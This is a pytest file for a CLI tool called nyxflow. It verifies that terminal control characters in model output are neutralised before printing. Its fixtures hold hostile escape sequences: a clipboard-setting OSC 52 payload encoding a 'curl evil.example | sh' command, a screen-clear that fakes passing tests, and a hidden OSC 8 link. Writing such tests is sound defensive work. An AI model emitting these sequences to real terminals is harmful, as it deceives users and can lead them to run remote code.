"""Model and user text the CLI prints sends the terminal no control character: an ESC in a
model's answer began an escape sequence that set the clipboard (OSC 52), cleared the screen to
fake a result, or hid a link (OSC 8). Each such character is shown as U+FFFD; newlines and tabs
stay text. Through the real commands (typer's runner), against fake clients."""

from __future__ import annotations

import contextlib
import json
from collections.abc import AsyncGenerator, AsyncIterator
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console
from typer.testing import CliRunner

from nyxflow import events as ev
from nyxflow.cli import main, projects, render
from nyxflow.v1 import common_pb2 as pb
from nyxflow_engine.splitting import split_items

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # OSC 52, ended by ST
FAKE = "\x1b[2J\x1b[H✓ all tests passed"  # clear the screen, then a fake result
LINK = "\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x07"  # OSC 8: a link hidden behind "docs"
C1 = "\x9b2J\x90q\x9c\x7f\x00\x08"  # an 8-bit CSI, DCS … ST, DEL, NUL, a backspace
HOSTILE = f"Here is the fix.{CLIPBOARD}{FAKE} see {LINK} {C1}"
# What a terminal would act on: none of it may be printed.
ACTED_ON = ["\x1b", "\x07", "\x9b", "\x90", "\x9c", "\x7f", "\x00", "\x08"]
RUN_ID = "3b4f0c1e-0000-4000-8000-000000000001"
WORKFLOW_ID = "3b4f0c1e-0000-4000-8000-000000000002"


def _event(seq: int, etype: str, **data: object) -> pb.RunEvent:
    return pb.RunEvent(seq=seq, type=etype, data_json=json.dumps(data))


EVENTS = [
    _event(1, ev.RUN_STARTED),
    _event(2, ev.STEP_STARTED, step_id="s", name="Improve", kind="llm"),
    _event(3, ev.STEP_DELTA, step_id="s", text=f"line one\n\tline two {HOSTILE}\r\n"),
    _event(4, ev.PROVIDER_FALLBACK, **{"from": "anthropic", "to": "local", "reason": HOSTILE}),
    _event(5, ev.FAN_OUT_PROGRESS, step_id="s", index=0, done=1, total=2, heading=HOSTILE),
    _event(6, ev.STEP_FAILED, step_id="s", name="Improve", error=f"provider said: {HOSTILE}"),
    _event(7, ev.RUN_FAILED, status=ev.FAILED, error=HOSTILE),
]


class FakeRuns:
    """What the commands below ask runs, each answer holding the hostile text."""

    def __init__(self) -> None:
        step = pb.Step(id="s", order=0, name="Improve", kind="llm", status="failed", error=HOSTILE)
        self.run = pb.Run(
            id=RUN_ID, workflow_id=WORKFLOW_ID, status="failed", error=HOSTILE, steps=[step]
        )
        self.workflow = pb.Workflow(id=WORKFLOW_ID, name=HOSTILE, status="failed", steps=[step])

    async def get_run(self, run_id: str, *, brief: bool = False) -> pb.Run:
        return pb.Run(id=run_id, status=ev.RUNNING) if brief else self.run

    async def list_runs(self, workflow: str, status: str) -> list[pb.Run]:
        return [self.run]

    async def list_runs_page(self, workflow: str, status: str, limit: int, token: str) -> Any:
        return SimpleNamespace(runs=[self.run], next_page_token="")

    async def list_workflows(self) -> list[pb.Workflow]:
        return [self.workflow]

    async def get_workflow(self, workflow_id: str) -> pb.Workflow:
        return self.workflow

    async def select_alternative(self, step_id: str, index: int) -> pb.Step:
        return pb.Step(id=step_id, name=HOSTILE, selected_index=index)

    async def get_artifact(self, run_id: str, kind: str, step: str) -> Any:
        return SimpleNamespace(content=f"--- a/x\n+++ b/x\n+{HOSTILE}\n")

    async def watch_run(self, run_id: str, after_seq: int = 0) -> AsyncGenerator[pb.RunEvent, None]:
        for event in EVENTS:
            if event.seq > after_seq:
                yield event


@pytest.fixture(autouse=True)
def fake_services(monkeypatch: pytest.MonkeyPatch) -> None:
    @contextlib.asynccontextmanager
    async def connect() -> AsyncIterator[Any]:
        yield SimpleNamespace(runs=FakeRuns(), engine=None, execute_silence_s=15.0)

    monkeypatch.setattr(main, "connect", connect)
    monkeypatch.setattr(projects, "connect", connect)
    monkeypatch.setenv("COLUMNS", "400")  # a cell on one line: the text is found whole


def invoke(*args: str, code: int = 0) -> str:
    result = CliRunner().invoke(main.app, list(args))
    assert result.exit_code == code, (result.output, result.exception)
    return result.output


def assert_nothing_acted_on(printed: str) -> None:
    for control in ACTED_ON:
        assert control not in printed, (control, printed)
    # shown, not lost: each sequence is visible for what it is
    assert "\ufffd]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\ufffd\\" in printed, printed
    assert "\ufffd[2J\ufffd[H✓ all tests passed" in printed, printed


@pytest.mark.parametrize("tokens", [False, True], ids=["lines", "tokens"])
def test_run_follow_prints_no_control_character(tokens: bool) -> None:
    printed = invoke("run", "follow", RUN_ID, *(["--tokens"] if tokens else []), code=3)
    assert_nothing_acted_on(printed)
    assert printed.count("✓ all tests passed") == (5 if tokens else 4), printed
    if tokens:  # the answer's newlines and tab are its text (a tab as spaces), CRLF a newline
        assert "line one\n        line two Here is the fix." in printed, printed
        assert "\r" not in printed


@pytest.mark.parametrize(
    "args",
    [
        ("run", "show", RUN_ID),
        ("run", "list"),
        ("workflow", "list"),
        ("workflow", "show", WORKFLOW_ID),
        ("step", "select", "s", "0"),
    ],
    ids=["run show", "run list", "workflow list", "workflow show", "step select"],
)
def test_shows_lists_and_tables_print_no_control_character(args: tuple[str, ...]) -> None:
    assert_nothing_acted_on(invoke(*args))


def test_a_patch_is_printed_as_it_is_into_a_pipe_and_cleaned_on_a_terminal(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`pipeline patch > fix.patch` keeps every byte for `git apply`; a terminal is sent none
    of the patch's control characters."""
    assert HOSTILE in invoke("pipeline", "patch", RUN_ID)
    monkeypatch.setattr(render, "out", Console(force_terminal=True))
    assert_nothing_acted_on(invoke("pipeline", "patch", RUN_ID))


def test_a_plan_heading_is_one_line_without_its_control_characters() -> None:
    """A fan-out's item headings come from a model's answer and are shown in the run's
    progress (the page, `run follow`): each run of control characters is one space."""
    answer = f"## Part one{CLIPBOARD}done\nbody\n## Part\ttwo\x1b[2J\x9b\nbody\n"
    headings = [item.heading for item in split_items(answer, "headings")]
    assert headings == ["Part one ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== \\done", "Part two [2J"]
